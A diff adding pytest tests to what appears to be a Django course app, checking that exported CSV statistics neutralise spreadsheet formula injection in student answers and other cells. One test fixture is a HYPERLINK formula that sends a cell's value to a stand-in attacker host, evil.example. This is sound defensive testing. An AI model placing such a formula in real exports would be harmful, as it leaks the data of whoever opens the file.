@@ -95,3 +95,44 @@ def test_the_set_page_flags_questions_and_the_statistics_download_as_csv(answere
     assert rows[0]["option_shares"] == "*1: 0.5; 2: 0.2; 3: 0.3"
     _, student = make_member(course)
     assert client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics/?lt={student}").status_code == 403
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Mehr Infos")'
+
+
+def test_a_students_formula_in_an_answer_stays_text_in_the_csv(course):
+    """A student answers an open question with a spreadsheet formula; the lecturer's CSV shows it as text."""
+    question_set = QuestionSet.objects.create(course=course, title="Formeln", status=QuestionSet.RELEASED)
+    question = Question.objects.create(question_set=question_set, position=1, kind=Question.SHORT,
+                                       stem="-Wie heißt das Init-System?", accepted_answers=["systemd"],
+                                       review=Question.APPROVED)
+    for answer in (FORMULA, FORMULA, "@SUM(1+1)", "systemd"):
+        user, _token = make_member(course)
+        practice.submit(question_set, user, {str(question.pk): [answer]}, report=False)
+    [row] = list(csv.DictReader(io.StringIO(item_stats.as_csv(item_stats.item_statistics(question_set)))))
+    assert row["frequent_answers"].startswith("'" + FORMULA)  # the most frequent answer opens the cell
+    assert row["question"] == "'-Wie heißt das Init-System?"
+    assert row["students"] == "4" and row["difficulty"] == "0.25"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("a=1", "a=1"), ("", ""), (-0.5, "-0.5"), (3, "3"),
+])
+def test_every_formula_start_is_neutralised_and_nothing_else(value, written):
+    from config import spreadsheets
+
+    out = io.StringIO()
+    spreadsheets.writer(out).writerow([value])
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written]
+
+
+def test_no_csv_is_written_around_the_safe_writer():
+    """Every CSV the product writes goes through config.spreadsheets (one place for the rule)."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parent.parent
+    for app in ("config", "courses", "lti", "tutor"):
+        for path in (root / app).rglob("*.py"):
+            if path.name != "spreadsheets.py":
+                assert "csv.writer(" not in path.read_text() and "DictWriter(" not in path.read_text(), path
